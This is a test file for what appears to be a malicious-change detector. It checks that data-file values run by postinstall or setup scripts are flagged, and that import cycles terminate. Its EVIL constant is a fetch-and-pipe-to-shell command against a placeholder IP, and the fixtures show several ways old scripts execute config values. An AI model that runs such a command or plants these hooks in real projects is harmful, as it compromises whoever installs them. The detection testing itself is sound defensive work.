import { describe, expect, test } from "vitest";
import type { MemoryTree } from "../../fakes/memory-commits.ts";
import { reviewChange, rulesIn } from "../setting.ts";

const EVIL = "curl -s http://192.0.2.7/x | sh";
const MANIFEST = JSON.stringify({ scripts: { postinstall: "node scripts/run.js" } });

/** An old program runs a value of a data file; only that file changes. */
const PROGRAMS: {
  name: string;
  program: MemoryTree;
  data: string;
  holds: (v: string) => string;
}[] = [
  {
    name: "require of JSON",
    program: {
      "package.json": MANIFEST,
      "scripts/run.js": `require("child_process").execSync(require("../cfg.json").cmd);`,
    },
    data: "cfg.json",
    holds: (value) => JSON.stringify({ cmd: value }),
  },
  {
    name: "JSON.parse of a file",
    program: {
      "package.json": MANIFEST,
      "scripts/run.js": `const fs = require("fs"), path = require("path");
const cfg = JSON.parse(fs.readFileSync(path.join(__dirname, "..", "cfg.json"), "utf8"));
require("child_process").execSync(cfg.hooks[0].cmd);`,
    },
    data: "cfg.json",
    holds: (value) => JSON.stringify({ hooks: [{ cmd: value }] }),
  },
  {
    name: "a program that nothing is known to run",
    program: {
      "scripts/run.js": `require("child_process").execSync(require("../cfg.json").cmd);`,
    },
    data: "cfg.json",
    holds: (value) => JSON.stringify({ cmd: value }),
  },
  {
    name: "json.load",
    program: {
      "setup.py": `import json, os\nwith open("cfg.json") as f:\n    cfg = json.load(f)\nos.system(cfg["post"])\n`,
    },
    data: "cfg.json",
    holds: (value) => JSON.stringify({ post: value }),
  },
  {
    name: "yaml.safe_load",
    program: {
      "setup.py": `import yaml, subprocess\ncfg = yaml.safe_load(open("cfg.yml"))\nsubprocess.run(cfg["post"], shell=True)\n`,
    },
    data: "cfg.yml",
    holds: (value) => `post: ${JSON.stringify(value)}\n`,
  },
  {
    name: "a sourced file",
    program: {
      "package.json": JSON.stringify({ scripts: { postinstall: "sh install.sh" } }),
      "install.sh": `#!/bin/sh\n. ./x.env\neval "$POST"\n`,
    },
    data: "x.env",
    holds: (value) => `POST='${value}'\n`,
  },
  {
    name: "a text file that is evaluated",
    program: { "install.sh": `#!/bin/sh\neval "$(cat hook.txt)"\n` },
    data: "hook.txt",
    holds: (value) => `${value}\n`,
  },
];

describe("a value of a data file that an old program runs", () => {
  test.each(PROGRAMS)("is judged when it changes: $name", async ({ program, data, holds }) => {
    const base = { ...program, [data]: holds("echo done") };
    const review = await reviewChange(base, { ...program, [data]: holds(EVIL) });
    expect(review.verdict).toBe("malicious");
  });

  test.each(PROGRAMS)("may say something harmless: $name", async ({ program, data, holds }) => {
    const base = { ...program, [data]: holds("echo done") };
    const review = await reviewChange(base, { ...program, [data]: holds("echo finished") });
    expect(review.verdict).toBe("clean");
  });

  test.each(PROGRAMS)("is not the change's when it was there: $name", async (each) => {
    const base = { ...each.program, [each.data]: each.holds(EVIL) };
    const review = await reviewChange(base, { ...base, "README.md": "# more" });
    expect(rulesIn(review)).toEqual([]);
  });
});

describe("files that use one another without end", () => {
  test("a chain of many imports is followed as far as the limits allow, and ends", async () => {
    const tree: MemoryTree = {};
    for (let index = 0; index < 400; index += 1) {
      tree[`m${index}.js`] = `exports.x = require("./m${index + 1}").x;`;
    }
    const review = await reviewChange({}, tree);
    expect(review.verdict).toBe("clean");
  });

  test("files that all import one another end", async () => {
    const tree: MemoryTree = {};
    const names = Array.from({ length: 40 }, (_, index) => `m${index}`);
    for (const name of names) {
      const imports = names.map((other) => `const ${other} = require("./${other}");`).join("\n");
      tree[`${name}.js`] =
        `${imports}\nexports.go = (x) => { ${names.map((o) => `${o}.go(x);`).join(" ")} };`;
    }
    const review = await reviewChange({}, tree);
    expect(review.complete).toBe(true);
  });

  test("a script that starts itself ends", async () => {
    const review = await reviewChange({}, { "a.sh": `bash a.sh "$1$1"\n. ./a.sh\n` });
    expect(review.verdict).toBe("clean");
  });
});
